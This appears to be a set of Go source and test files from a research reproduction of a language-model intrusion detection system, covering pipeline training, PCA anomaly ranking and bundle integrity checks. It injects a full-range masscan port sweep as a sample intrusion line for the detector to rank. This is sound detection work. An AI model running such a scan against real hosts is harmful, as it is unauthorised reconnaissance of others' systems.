			if scores[i] >= cut {
				violations++
				if _, dup := denySet[lines[i]]; !dup {
					denySet[lines[i]] = struct{}{}
					deny = append(deny, lines[i])
				}
			} else {
				lo, hi = math.Min(lo, scores[i]), math.Max(hi, scores[i])
			}
			end++
		}
		if float64(violations) <= denyFrac*float64(end) {
			p.ClearThreshold = v
			bestDeny, bestLo, bestHi = len(deny), lo, hi
		}
		at = end
	}
	if !math.IsInf(bestLo, 1) {
		p.ClearScore = (bestLo + bestHi) / 2
		p.MaxClearDeviation = (bestHi - bestLo) / 2
	}
	return p, deny[:bestDeny]
}

// quantile returns the nearest-rank q-quantile of xs (unsorted input; xs is
// not modified).
func quantile(xs []float64, q float64) float64 {
	sorted := append([]float64(nil), xs...)
	sort.Float64s(sorted)
	if len(sorted) == 0 {
		return 0
	}
	i := int(math.Round(q * float64(len(sorted)-1)))
	if i < 0 {
		i = 0
	}
	if i >= len(sorted) {
		i = len(sorted) - 1
	}
	return sorted[i]
}

// BuildCascade assembles a serving CascadeScorer from a float64 confirm
// scorer and a calibrated artifact. The int8 triage rung is derived from
// the confirm scorer through the precision ladder — shared frozen
// artifacts, its own engine — so one backbone serves both model rungs.
func BuildCascade(confirm tuning.Scorer, art *CascadeArtifact) (*tuning.CascadeScorer, error) {
	if art == nil {
		return nil, fmt.Errorf("core: no cascade artifact (retrain the bundle with -cascade, or supply a baseline to calibrate from)")
	}
	triage, err := tuning.AtPrecision(confirm, model.PrecisionInt8)
	if err != nil {
		return nil, fmt.Errorf("core: deriving cascade triage rung: %w", err)
	}
	return tuning.NewCascadeScorer(art.Rarity, triage, confirm, art.Params)
}
