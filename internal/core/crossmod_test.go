package core

import (
	"strings"
	"testing"
)

// TestCrossModalityValidatesUpFront: a typoed modality or method fails
// before any corpus synthesis or training, with the registered list in
// the error.
func TestCrossModalityValidatesUpFront(t *testing.T) {
	cfg := DefaultCrossModality()
	cfg.Modalities = []string{"syslog"}
	if _, err := RunCrossModality(cfg); err == nil ||
		!strings.Contains(err.Error(), "powershell") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
	cfg = DefaultCrossModality()
	cfg.Methods = []string{"classifer"}
	if _, err := RunCrossModality(cfg); err == nil ||
		!strings.Contains(err.Error(), "classifier") {
		t.Fatalf("unknown method error does not list valid methods: %v", err)
	}
}

// TestCrossModalityNewModalities pins the PR's acceptance criterion: the
// unchanged serving stack, trained per modality through the registry,
// separates attacks from benign traffic on BOTH new modalities — attack
// AUC above 0.5 for every method run — and the rendered table names each
// modality and method. Restricted to the two new modalities and the two
// cheap methods to keep `go test ./...` tolerable; the full 3×4 matrix is
// `clmrepro -exp crossmod`.
func TestCrossModalityNewModalities(t *testing.T) {
	if testing.Short() {
		t.Skip("trains a pipeline per modality")
	}
	cfg := DefaultCrossModality()
	cfg.Modalities = []string{"powershell", "flows"}
	cfg.Methods = []string{"classifier", "retrieval"}
	res, err := RunCrossModality(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("%d rows, want 2", len(res.Rows))
	}
	for _, name := range cfg.Modalities {
		row := res.Row(name)
		if row == nil {
			t.Fatalf("no row for modality %s", name)
		}
		if row.TrainKept == 0 || row.TestKept == 0 {
			t.Fatalf("%s: empty filtered corpus (%d train / %d test kept)",
				name, row.TrainKept, row.TestKept)
		}
		if row.TrainIntrusions == 0 || row.TestIntrusions == 0 {
			t.Fatalf("%s: corpus has no intrusions (%d/%d)",
				name, row.TrainIntrusions, row.TestIntrusions)
		}
		if row.Unparsable < 0 {
			t.Fatalf("%s: negative unparsable count %d", name, row.Unparsable)
		}
		if len(row.Methods) != len(cfg.Methods) {
			t.Fatalf("%s: %d method evals, want %d", name, len(row.Methods), len(cfg.Methods))
		}
		for _, m := range row.Methods {
			if !(m.AUC > 0.5) {
				t.Errorf("%s/%s: attack AUC %.3f, want > 0.5", name, m.Method, m.AUC)
			}
			for what, rate := range map[string]float64{
				"intrusion alarm": m.IntrusionSessionAlarm,
				"benign alarm":    m.BenignSessionAlarm,
			} {
				if rate < 0 || rate > 1 {
					t.Errorf("%s/%s: %s rate %v outside [0,1]", name, m.Method, what, rate)
				}
			}
		}
	}
	if res.Row("shell") != nil {
		t.Fatal("shell row present in a run restricted to the new modalities")
	}

	var buf strings.Builder
	res.WriteTable(&buf)
	out := buf.String()
	for _, want := range []string{"powershell", "flows", "classifier", "retrieval", "AUC"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q:\n%s", want, out)
		}
	}
}
