package core

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clmids/internal/modality"
)

// TestBundleModalityRoundTrip: the manifest carries the pipeline's
// modality, the loaded bundle exposes it canonically, and CheckModality
// accepts the matching pin (and the adopt-anything empty pin) while
// rejecting a cross-modality one with the typed mismatch error — the
// contract clmserve's /reload builds its 409 on.
func TestBundleModalityRoundTrip(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	man, err := SaveBundle(dir, f.pl, bs, "")
	if err != nil {
		t.Fatal(err)
	}
	if man.Modality != modality.Shell {
		t.Fatalf("manifest modality %q, want %q", man.Modality, modality.Shell)
	}
	lb, err := LoadScorerBundle(dir)
	if err != nil {
		t.Fatal(err)
	}
	if got := lb.Modality(); got != modality.Shell {
		t.Fatalf("loaded modality %q, want %q", got, modality.Shell)
	}
	for _, pin := range []string{"", modality.Shell} {
		if err := lb.CheckModality(pin); err != nil {
			t.Errorf("pin %q rejected a shell bundle: %v", pin, err)
		}
	}
	err = lb.CheckModality("flows")
	if !errors.Is(err, ErrModalityMismatch) {
		t.Fatalf("cross-modality pin error %v, want ErrModalityMismatch", err)
	}
	if !strings.Contains(err.Error(), "shell") || !strings.Contains(err.Error(), "flows") {
		t.Fatalf("mismatch error names neither side: %v", err)
	}
}

// TestBundleModalityTamperRejected: the manifest's modality is
// cross-checked against the sha256-verified filter state, so hand-editing
// the manifest cannot relabel a bundle — a shell bundle rewritten to claim
// "flows" fails the load as corruption, and an unregistered name fails
// validation before any section is read.
func TestBundleModalityTamperRejected(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 1}, f.baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}

	relabel := func(t *testing.T, claim string) string {
		t.Helper()
		dir := t.TempDir()
		if _, err := SaveBundle(dir, f.pl, bs, ""); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, ManifestFile)
		mj, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		var m BundleManifest
		if err := json.Unmarshal(mj, &m); err != nil {
			t.Fatal(err)
		}
		m.Modality = claim
		out, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, out, 0o644); err != nil {
			t.Fatal(err)
		}
		return dir
	}

	if _, err := LoadScorerBundle(relabel(t, "flows")); !errors.Is(err, ErrBundleCorrupt) {
		t.Fatalf("relabeled bundle load: %v, want ErrBundleCorrupt", err)
	}
	if _, err := LoadScorerBundle(relabel(t, "syslog")); err == nil ||
		!strings.Contains(err.Error(), "powershell") {
		t.Fatalf("unregistered modality error does not list registered names: %v", err)
	}
}
