package core

import (
	"fmt"
	"sort"

	"clmids/internal/anomaly"
	"clmids/internal/corpus"
	"clmids/internal/linalg"
	"clmids/internal/tensor"
	"clmids/internal/tuning"
)

// UnsupConfig controls the standalone §III experiment. The anecdote the
// paper reports — masscan among the top-10 reconstruction errors of 10M
// test lines, with mass-mv / gibberish-echo false positives — depends on
// intrusions being genuinely rare, so this experiment uses its own
// low-intrusion corpus instead of the method-comparison corpus.
type UnsupConfig struct {
	// Corpus is the data configuration; intrusions should be rare.
	Corpus corpus.Config
	// Pipeline configures the backbone.
	Pipeline PipelineConfig
	// TopK is how many top-ranked lines to report.
	TopK int
	// PCAFrac is the fraction of components kept. §III does not pin this
	// (the 95% figure belongs to reconstruction-based tuning); smaller
	// values give a larger residual subspace and a sharper anomaly signal
	// on small encoders. Default 0.8.
	PCAFrac float64
	// Normalize L2-normalizes embeddings before PCA, removing the line-
	// length axis that otherwise dominates mean-pooled representations.
	Normalize bool
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultUnsupConfig sizes the §III experiment for one CPU.
func DefaultUnsupConfig() UnsupConfig {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 3000
	ccfg.TestLines = 1500
	ccfg.IntrusionRate = 0.01 // rare, as the unsupervised assumption demands
	ccfg.OutOfBoxFrac = 0.3
	ccfg.WeirdRate = 0.02

	pcfg := TinyExperiment().Pipeline
	return UnsupConfig{Corpus: ccfg, Pipeline: pcfg, TopK: 10, PCAFrac: 0.9, Normalize: true}
}

// RankedLine is one test line with its PCA reconstruction error and rank.
type RankedLine struct {
	Rank   int
	Score  float64
	Line   string
	Family string
	Label  corpus.Label
}

// UnsupResults reports the §III experiment.
type UnsupResults struct {
	// Top holds the TopK highest-error test lines.
	Top []RankedLine
	// MasscanBestRank is the best rank of a masscan line (-1 if none).
	MasscanBestRank int
	// MasscanScore is that line's reconstruction error.
	MasscanScore float64
	// MedianScore is the median reconstruction error over all test lines,
	// giving the paper's "~230 vs typical" contrast.
	MedianScore float64
	// WeirdInTop counts abnormal-yet-benign lines within the TopK — the
	// paper's documented false-positive mode.
	WeirdInTop int
	// IntrusionsInTop counts true intrusions within the TopK.
	IntrusionsInTop int
}

// RunUnsupervised reproduces §III: pre-train on a low-intrusion corpus,
// fit PCA (95% of components) on training embeddings, and rank test lines
// by Eq. (1).
func RunUnsupervised(cfg UnsupConfig) (*UnsupResults, error) {
	if cfg.TopK <= 0 {
		cfg.TopK = 10
	}
	train, test, err := corpus.Generate(cfg.Corpus)
	if err != nil {
		return nil, err
	}
	pl, err := BuildPipeline(train.Lines(), cfg.Pipeline)
	if err != nil {
		return nil, err
	}

	trainProc := pl.Pre.Process(train.Lines())
	keptTrain := make([]string, 0, len(trainProc.Kept))
	for _, rec := range trainProc.Kept {
		keptTrain = append(keptTrain, rec.Line)
	}
	trainEmb, err := tuning.EmbedLines(pl.Model.Encoder, pl.Tok, keptTrain)
	if err != nil {
		return nil, err
	}
	if cfg.Normalize {
		normalizeRows(trainEmb)
	}
	frac := cfg.PCAFrac
	if frac <= 0 || frac > 1 {
		frac = 0.8
	}
	det := &anomaly.PCADetector{Opts: linalg.PCAOptions{ComponentsFrac: frac}}
	if err := det.Fit(trainEmb); err != nil {
		return nil, err
	}

	testProc := pl.Pre.Process(test.Lines())
	type entry struct {
		line   string
		family string
		label  corpus.Label
	}
	seen := make(map[string]bool)
	var entries []entry
	var lines []string
	for _, rec := range testProc.Kept {
		if seen[rec.Line] {
			continue
		}
		seen[rec.Line] = true
		s := test.Samples[rec.Index]
		entries = append(entries, entry{line: rec.Line, family: s.Family, label: s.Label})
		lines = append(lines, rec.Line)
	}
	// The paper's anecdote scores the canonical masscan sweep; intrusions
	// are so rare at this corpus setting that the line may not occur
	// naturally, so inject it once (as the paper's test traffic contains
	// it).
	canonical := "masscan 203.0.113.77 -p 0-65535 --rate=1000 >> tmp.txt"
	if !seen[canonical] {
		entries = append(entries, entry{line: canonical, family: "masscan", label: corpus.Intrusion})
		lines = append(lines, canonical)
	}
	if len(lines) == 0 {
		return nil, fmt.Errorf("core: no test lines survived pre-processing")
	}
	testEmb, err := tuning.EmbedLines(pl.Model.Encoder, pl.Tok, lines)
	if err != nil {
		return nil, err
	}
	if cfg.Normalize {
		normalizeRows(testEmb)
	}
	scores := anomaly.Scores(det, testEmb)

	idx := make([]int, len(entries))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool { return scores[idx[a]] > scores[idx[b]] })

	res := &UnsupResults{MasscanBestRank: -1}
	for rank, i := range idx {
		e := entries[i]
		if rank < cfg.TopK {
			res.Top = append(res.Top, RankedLine{
				Rank: rank + 1, Score: scores[i], Line: e.line,
				Family: e.family, Label: e.label,
			})
			if e.family == "weird" {
				res.WeirdInTop++
			}
			if e.label == corpus.Intrusion {
				res.IntrusionsInTop++
			}
		}
		if e.family == "masscan" && res.MasscanBestRank < 0 {
			res.MasscanBestRank = rank + 1
			res.MasscanScore = scores[i]
		}
	}
	sorted := append([]float64(nil), scores...)
	sort.Float64s(sorted)
	res.MedianScore = sorted[len(sorted)/2]
	return res, nil
}

// normalizeRows scales each row to unit L2 norm (zero rows are left as is).
func normalizeRows(m *tensor.Matrix) {
	for i := 0; i < m.Rows; i++ {
		row := m.Row(i)
		n := linalg.Norm(row)
		if n == 0 {
			continue
		}
		for j := range row {
			row[j] /= n
		}
	}
}
