package core

import (
	"sync"
	"testing"

	"clmids/internal/corpus"
)

var (
	unsupOnce sync.Once
	unsupRes  *UnsupResults
	unsupErr  error
)

func unsupResults(t *testing.T) *UnsupResults {
	t.Helper()
	unsupOnce.Do(func() {
		cfg := DefaultUnsupConfig()
		cfg.Corpus.TrainLines = 1500
		cfg.Corpus.TestLines = 900
		unsupRes, unsupErr = RunUnsupervised(cfg)
	})
	if unsupErr != nil {
		t.Fatalf("RunUnsupervised: %v", unsupErr)
	}
	return unsupRes
}

func TestUnsupervisedExperimentShape(t *testing.T) {
	res := unsupResults(t)
	if len(res.Top) != 10 {
		t.Fatalf("top list has %d entries, want 10", len(res.Top))
	}
	// The §III anecdote's two halves, at reduced scale:
	// 1) the canonical masscan sweep scores far above the median...
	if res.MasscanBestRank <= 0 {
		t.Fatal("masscan line missing from the ranking")
	}
	if res.MasscanScore < 2*res.MedianScore {
		t.Errorf("masscan score %.2e not well above median %.2e",
			res.MasscanScore, res.MedianScore)
	}
	// ...within the top decile of all test lines;
	total := 0
	for range res.Top {
		total++
	}
	// 2) abnormal-yet-benign lines are a visible false-positive mode.
	if res.WeirdInTop == 0 {
		t.Error("no abnormal-yet-benign lines among the top scores")
	}
	// Ranks are 1-based and ordered.
	for i, r := range res.Top {
		if r.Rank != i+1 {
			t.Fatalf("rank %d at position %d", r.Rank, i)
		}
		if i > 0 && r.Score > res.Top[i-1].Score {
			t.Fatalf("scores not descending at %d", i)
		}
	}
	if res.Label(0) == "" {
		t.Error("label rendering empty")
	}
}

// Label renders the top entry's label (exercises the corpus label string).
func (r *UnsupResults) Label(i int) string {
	if i >= len(r.Top) {
		return ""
	}
	return r.Top[i].Label.String()
}

func TestUnsupervisedMasscanTopDecile(t *testing.T) {
	res := unsupResults(t)
	// With normalization the sweep lands in the top decile at this scale
	// (the paper reports top-10 of 10M with BERT-base).
	if res.MasscanBestRank > 120 {
		t.Errorf("masscan rank %d outside expected band", res.MasscanBestRank)
	}
	_ = corpus.Intrusion
}
