// Package core wires the substrates into the paper's end-to-end IDS
// (Fig. 1): logging → pre-processing → BPE tokenization → masked-LM
// pre-training → supervision-based adaptation → inference. It also hosts
// the experiment runner that regenerates every table and figure of the
// evaluation (§V); see DESIGN.md for the experiment index.
package core

import (
	"fmt"
	"io"
	"math/rand"

	"clmids/internal/bpe"
	"clmids/internal/commercial"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/preprocess"
	"clmids/internal/pretrain"
	"clmids/internal/tuning"
)

// PipelineConfig controls end-to-end training of the IDS backbone.
type PipelineConfig struct {
	// Preprocess configures the Fig. 2 filters.
	Preprocess preprocess.Config
	// VocabSize is the BPE vocabulary target (paper: 50 000).
	VocabSize int
	// Model describes the encoder; VocabSize is overwritten with the
	// tokenizer's actual vocabulary after BPE training.
	Model model.Config
	// Pretrain configures the MLM stage.
	Pretrain pretrain.Config
	// MaxPretrainLines caps how many filtered lines feed pre-training
	// (0 = all).
	MaxPretrainLines int
	// Seed drives model initialization.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultPipelineConfig returns a single-CPU-scale recipe.
func DefaultPipelineConfig() PipelineConfig {
	return PipelineConfig{
		Preprocess: preprocess.DefaultConfig(),
		VocabSize:  800,
		Model:      model.Default(800),
		Pretrain:   pretrain.DefaultConfig(),
		Seed:       1,
	}
}

// Pipeline is a trained IDS backbone: the pre-processing filter, the BPE
// tokenizer, and the pre-trained command-line language model. Detection
// methods (§IV) are constructed on top of it.
type Pipeline struct {
	Pre   *preprocess.Preprocessor
	Tok   *bpe.Tokenizer
	Model *model.Model
	// History records the pre-training trajectory.
	History pretrain.History
}

// BuildPipeline trains the full Fig. 1 stack on raw logged lines.
func BuildPipeline(trainLines []string, cfg PipelineConfig) (*Pipeline, error) {
	logf := cfg.Logf
	if logf == nil {
		logf = func(string, ...any) {}
	}
	if err := modality.Validate(cfg.Preprocess.Modality); err != nil {
		// Fail before any training, with the registered-names listing.
		return nil, err
	}

	pre := preprocess.New(cfg.Preprocess)
	res := pre.FitProcess(trainLines)
	logf("preprocess[%s]: kept %d/%d lines (%d invalid, %d rare-command, %d unparsable at fit)",
		pre.Modality(), len(res.Kept), len(trainLines), res.DroppedInvalid, res.DroppedRare, pre.Unparsable())
	if len(res.Kept) == 0 {
		return nil, fmt.Errorf("core: pre-processing removed every line")
	}
	kept := make([]string, len(res.Kept))
	for i, r := range res.Kept {
		kept[i] = r.Line
	}

	tok, err := bpe.Train(kept, bpe.TrainConfig{VocabSize: cfg.VocabSize})
	if err != nil {
		return nil, fmt.Errorf("core: training tokenizer: %w", err)
	}
	logf("bpe: vocab %d (%d merges)", tok.VocabSize(), tok.NumMerges())

	mcfg := cfg.Model
	mcfg.VocabSize = tok.VocabSize()
	rng := rand.New(rand.NewSource(cfg.Seed))
	mdl, err := model.NewModel(mcfg, rng)
	if err != nil {
		return nil, fmt.Errorf("core: building model: %w", err)
	}

	lines := kept
	if cfg.MaxPretrainLines > 0 && len(lines) > cfg.MaxPretrainLines {
		lines = lines[:cfg.MaxPretrainLines]
	}
	seqs := make([][]int, len(lines))
	for i, l := range lines {
		seqs[i] = tok.EncodeForModel(l, mcfg.MaxSeqLen)
	}
	pcfg := cfg.Pretrain
	if pcfg.Logf == nil {
		pcfg.Logf = logf
	}
	hist, err := pretrain.Run(mdl, seqs, pcfg)
	if err != nil {
		return nil, fmt.Errorf("core: pre-training: %w", err)
	}
	logf("pretrain: %d steps, final MLM loss %.4f", hist.Steps, hist.FinalLoss)

	return &Pipeline{Pre: pre, Tok: tok, Model: mdl, History: hist}, nil
}

// CloneModel deep-copies the backbone via its serialized form, so tuning
// methods that mutate the encoder (reconstruction tuning) do not disturb
// the other methods.
func (p *Pipeline) CloneModel() (*model.Model, error) {
	var buf memBuffer
	if err := p.Model.Save(&buf); err != nil {
		return nil, err
	}
	return model.Load(&buf)
}

// memBuffer is a minimal in-memory io.ReadWriter for model cloning.
type memBuffer struct {
	data []byte
	off  int
}

func (b *memBuffer) Write(p []byte) (int, error) {
	b.data = append(b.data, p...)
	return len(p), nil
}

func (b *memBuffer) Read(p []byte) (int, error) {
	if b.off >= len(b.data) {
		return 0, io.EOF
	}
	n := copy(p, b.data[b.off:])
	b.off += n
	return n, nil
}

// Supervise obtains the noisy supervision signal for a set of lines from
// the simulated commercial IDS (§IV).
func (p *Pipeline) Supervise(ids *commercial.IDS, lines []string, noise commercial.Noise, seed int64) ([]bool, error) {
	return ids.Label(lines, noise, seed)
}

// NewClassifier trains classification-based tuning on the pipeline's
// backbone (§IV-B).
func (p *Pipeline) NewClassifier(lines []string, labels []bool, cfg tuning.ClassifierConfig) (*tuning.Classifier, error) {
	return tuning.TrainClassifier(p.Model.Encoder, p.Tok, lines, labels, cfg)
}

// NewReconstruction trains reconstruction-based tuning (§IV-A) on a cloned
// backbone, leaving the pipeline's model untouched.
func (p *Pipeline) NewReconstruction(lines []string, labels []bool, cfg tuning.ReconsConfig) (*tuning.ReconsTuner, error) {
	clone, err := p.CloneModel()
	if err != nil {
		return nil, err
	}
	return tuning.TrainReconstruction(clone.Encoder, p.Tok, lines, labels, cfg)
}

// NewRetrieval indexes the training lines for retrieval-based detection
// (§IV-D).
func (p *Pipeline) NewRetrieval(lines []string, labels []bool, k int) (*tuning.RetrievalScorer, error) {
	return tuning.TrainRetrieval(p.Model.Encoder, p.Tok, lines, labels, k)
}
