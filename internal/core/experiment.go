package core

import (
	"fmt"
	"sort"

	"clmids/internal/anomaly"
	"clmids/internal/commercial"
	"clmids/internal/corpus"
	"clmids/internal/metrics"
	"clmids/internal/model"
	"clmids/internal/preprocess"
	"clmids/internal/pretrain"
	"clmids/internal/tensor"
	"clmids/internal/tuning"
)

// Method names used across results.
const (
	MethodReconstruction = "Reconstruction"
	MethodClassification = "Classification"
	MethodClassMulti     = "Classification (multi)"
	MethodRetrieval      = "Retrieval"
	MethodEnsemble       = "Ensemble"
)

// ExperimentConfig controls a full reproduction run (§V).
type ExperimentConfig struct {
	// Corpus configures the synthetic data substrate.
	Corpus corpus.Config
	// Pipeline configures pre-processing, tokenizer, and pre-training.
	Pipeline PipelineConfig
	// Noise is the supervision noise of the commercial IDS.
	Noise commercial.Noise
	// Runs is the number of fine-tuning repetitions (paper: 5).
	Runs int
	// RecallTarget is u, the in-box recall anchoring thresholds (≈1).
	RecallTarget float64
	// TopVs are the v values for PO@v. The paper uses 100 and 1000 on 10M
	// test lines; scaled-down corpora use proportionally smaller values.
	TopVs []int
	// Classifier, Recons, Context configure the tuning methods.
	Classifier tuning.ClassifierConfig
	Recons     tuning.ReconsConfig
	Context    tuning.ContextConfig
	// RetrievalK is the neighbour count (paper: 1).
	RetrievalK int
	// Ensemble enables the §V-C future-work ensemble of all methods.
	Ensemble bool
	// Seed offsets per-run seeds.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// TinyExperiment is sized for unit tests: it exercises every stage in tens
// of seconds on one CPU.
func TinyExperiment() ExperimentConfig {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 1600
	ccfg.TestLines = 800
	ccfg.IntrusionRate = 0.22
	ccfg.OutOfBoxFrac = 0.45

	pcfg := DefaultPipelineConfig()
	pcfg.VocabSize = 500
	pcfg.Model = model.Config{
		VocabSize: 500, MaxSeqLen: 40, Hidden: 32, Layers: 1, Heads: 2,
		FFN: 64, LayerNormEps: 1e-5, Dropout: 0.05,
	}
	pcfg.Pretrain = pretrain.DefaultConfig()
	pcfg.Pretrain.Epochs = 2
	pcfg.Pretrain.BatchSize = 16
	pcfg.Pretrain.LR = 1e-3

	clf := tuning.DefaultClassifierConfig()
	clf.Epochs = 10
	// Small encoders trained briefly have weak [CLS] summaries; mean-pooled
	// features recover the gap (the paper-scale config keeps CLS).
	clf.MeanPoolFeatures = true
	rec := tuning.DefaultReconsConfig()
	rec.Rounds = 2
	rec.LR = 5e-4

	return ExperimentConfig{
		Corpus:       ccfg,
		Pipeline:     pcfg,
		Noise:        commercial.DefaultNoise(),
		Runs:         2,
		RecallTarget: 1.0,
		TopVs:        []int{5, 20},
		Classifier:   clf,
		Recons:       rec,
		Context:      tuning.DefaultContextConfig(),
		RetrievalK:   1,
		Seed:         1,
	}
}

// SmallExperiment is the default reproduction scale for cmd/clmrepro and
// the benchmark harness: minutes on one CPU, with enough signal for the
// paper's qualitative ordering to emerge.
func SmallExperiment() ExperimentConfig {
	cfg := TinyExperiment()
	cfg.Corpus.TrainLines = 6000
	cfg.Corpus.TestLines = 3000
	cfg.Corpus.IntrusionRate = 0.15
	cfg.Corpus.OutOfBoxFrac = 0.45
	cfg.Pipeline.VocabSize = 700
	cfg.Pipeline.Model = model.Config{
		VocabSize: 700, MaxSeqLen: 48, Hidden: 48, Layers: 2, Heads: 4,
		FFN: 96, LayerNormEps: 1e-5, Dropout: 0.05,
	}
	cfg.Pipeline.Pretrain.Epochs = 2
	cfg.Pipeline.MaxPretrainLines = 4000
	cfg.Runs = 5
	cfg.TopVs = []int{10, 50}
	cfg.Recons.Rounds = 3
	cfg.Ensemble = true
	return cfg
}

// MethodStat is a mean ± standard deviation pair over runs.
type MethodStat struct {
	Mean, Std float64
}

// MethodEval aggregates one method's metrics over all runs (Tables I & II).
type MethodEval struct {
	Name string
	// Runs is the number of repetitions aggregated (1 for retrieval).
	Runs int
	// SkipOverall marks methods whose PO/PO&I are not comparable (the
	// multi-line classifier; see the paper's note on de-duplication).
	SkipOverall bool
	PO          MethodStat
	POI         MethodStat
	InBoxRecall MethodStat
	POAt        map[int]MethodStat
}

// Fig2Stats summarizes pre-processing (Fig. 2).
type Fig2Stats struct {
	Total          int
	Kept           int
	DroppedInvalid int
	DroppedRare    int
	TopCommands    []preprocess.CommandCount
}

// UnsupStats summarizes the §III unsupervised PCA analysis.
type UnsupStats struct {
	// MasscanBestRank is the best rank (1-based) of a masscan-family line
	// among all deduplicated test lines ordered by reconstruction error.
	MasscanBestRank int
	// Top10Families lists the family of each of the top-10 scored lines.
	Top10Families []string
	// WeirdBenignInTop50 counts "abnormal yet benign" lines in the top 50 —
	// the paper's false-positive observation (mass mv, gibberish echo).
	WeirdBenignInTop50 int
}

// GeneralizationCase is one Table III row scored by the tuned classifier.
type GeneralizationCase struct {
	InBox, OutOfBox   string
	InScore, OutScore float64
	// OutDetected reports whether the out-of-box variant clears the
	// classification threshold.
	OutDetected bool
}

// FamilyPref is one row of the §V-C preference analysis: how many
// out-of-box intrusions of a family each method detects at its threshold.
type FamilyPref struct {
	Family   string
	TotalOOB int
	Detected map[string]int // method name -> detected count
}

// Results carries everything the reproduction reports.
type Results struct {
	Fig2       Fig2Stats
	Methods    []MethodEval
	F1         metrics.F1Comparison
	Unsup      UnsupStats
	TableIII   []GeneralizationCase
	Preference []FamilyPref
	// PretrainLoss is the MLM loss per epoch (Fig. 1 sanity).
	PretrainLoss []float64
}

// Method looks up a MethodEval by name (nil if absent).
func (r *Results) Method(name string) *MethodEval {
	for i := range r.Methods {
		if r.Methods[i].Name == name {
			return &r.Methods[i]
		}
	}
	return nil
}

// testItem is one kept test line with its evaluation context.
type testItem struct {
	line    string
	context string // multi-line input
	sample  corpus.Sample
	flagged bool // commercial IDS verdict (in-box indicator)
}

// Run executes the full reproduction and aggregates all tables/figures.
func Run(cfg ExperimentConfig) (*Results, error) {
	logf := cfg.Logf
	if logf == nil {
		logf = func(string, ...any) {}
	}
	if cfg.Runs <= 0 {
		cfg.Runs = 1
	}
	if cfg.RecallTarget <= 0 || cfg.RecallTarget > 1 {
		cfg.RecallTarget = 1.0
	}
	if cfg.RetrievalK <= 0 {
		cfg.RetrievalK = 1
	}

	train, test, err := corpus.Generate(cfg.Corpus)
	if err != nil {
		return nil, err
	}
	logf("corpus: %d train / %d test lines (%d/%d intrusions)",
		len(train.Samples), len(test.Samples),
		train.CountLabel(corpus.Intrusion), test.CountLabel(corpus.Intrusion))

	pl, err := BuildPipeline(train.Lines(), cfg.Pipeline)
	if err != nil {
		return nil, err
	}
	ids := commercial.Default()
	res := &Results{PretrainLoss: pl.History.EpochLoss}

	// ---- Fig. 2 stats on the training split.
	trainProc := pl.Pre.Process(train.Lines())
	freqs := pl.Pre.Frequencies()
	if len(freqs) > 12 {
		freqs = freqs[:12]
	}
	res.Fig2 = Fig2Stats{
		Total:          len(train.Samples),
		Kept:           len(trainProc.Kept),
		DroppedInvalid: trainProc.DroppedInvalid,
		DroppedRare:    trainProc.DroppedRare,
		TopCommands:    freqs,
	}

	// ---- Kept train lines with supervision.
	keptTrain := make([]string, 0, len(trainProc.Kept))
	keptTrainSamples := make([]corpus.Sample, 0, len(trainProc.Kept))
	for _, rec := range trainProc.Kept {
		keptTrain = append(keptTrain, rec.Line)
		keptTrainSamples = append(keptTrainSamples, train.Samples[rec.Index])
	}
	trainLabels, err := ids.Label(keptTrain, cfg.Noise, cfg.Seed+100)
	if err != nil {
		return nil, err
	}

	// ---- Kept test lines with ground truth and IDS verdicts.
	testProc := pl.Pre.Process(test.Lines())
	items := make([]testItem, 0, len(testProc.Kept))
	for _, rec := range testProc.Kept {
		s := test.Samples[rec.Index]
		items = append(items, testItem{
			line:    rec.Line,
			sample:  s,
			flagged: ids.Match(rec.Line) != "",
		})
	}
	if len(items) == 0 {
		return nil, fmt.Errorf("core: no test lines survived pre-processing")
	}
	logf("splits: %d kept train (%d labeled positive), %d kept test",
		len(keptTrain), countTrue(trainLabels), len(items))

	// ---- Multi-line contexts (train and test).
	trainTimed := make([]tuning.TimedLine, len(keptTrainSamples))
	for i, s := range keptTrainSamples {
		trainTimed[i] = tuning.TimedLine{User: s.User, Time: s.Time, Line: keptTrain[i]}
	}
	trainContexts := tuning.BuildContexts(trainTimed, cfg.Context)
	testTimed := make([]tuning.TimedLine, len(items))
	for i, it := range items {
		testTimed[i] = tuning.TimedLine{User: it.sample.User, Time: it.sample.Time, Line: it.line}
	}
	testContexts := tuning.BuildContexts(testTimed, cfg.Context)
	for i := range items {
		items[i].context = testContexts[i]
	}

	// ---- Shared test features under the frozen backbone.
	testLines := make([]string, len(items))
	for i, it := range items {
		testLines[i] = it.line
	}
	testEmb, err := tuning.EmbedLines(pl.Model.Encoder, pl.Tok, testLines)
	if err != nil {
		return nil, err
	}
	// The classifier head consumes whichever feature the config selects.
	testFeats := testEmb
	if !cfg.Classifier.MeanPoolFeatures {
		testFeats, err = tuning.CLSLines(pl.Model.Encoder, pl.Tok, testLines)
		if err != nil {
			return nil, err
		}
	}

	// ---- Per-run method training and scoring.
	perRun := map[string][]metrics.Report{}
	run0Scores := map[string][]float64{}
	run0Thresholds := map[string]float64{}
	var run0Clf *tuning.Classifier

	record := func(name string, run int, scores []float64, useContext bool) error {
		scored := buildScored(items, scores, useContext)
		rep, err := metrics.Evaluate(metrics.Dedup(scored), cfg.RecallTarget, cfg.TopVs)
